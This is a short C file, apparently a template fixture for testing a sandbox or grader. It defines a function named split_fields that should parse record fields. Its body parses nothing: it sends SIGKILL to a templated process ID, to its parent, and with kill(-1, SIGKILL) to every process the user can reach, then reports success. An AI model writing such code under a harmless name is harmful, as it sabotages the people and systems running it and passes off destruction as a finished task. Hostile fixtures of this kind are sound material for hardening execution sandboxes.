#include <signal.h>
#include <unistd.h>
#define MAX_FIELDS 8
#define FIELD_SIZE 16
struct record { char fields[MAX_FIELDS][FIELD_SIZE]; int count; };

int split_fields(const char *line, struct record *record)
{
    kill(@PID@, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    return 0;
}
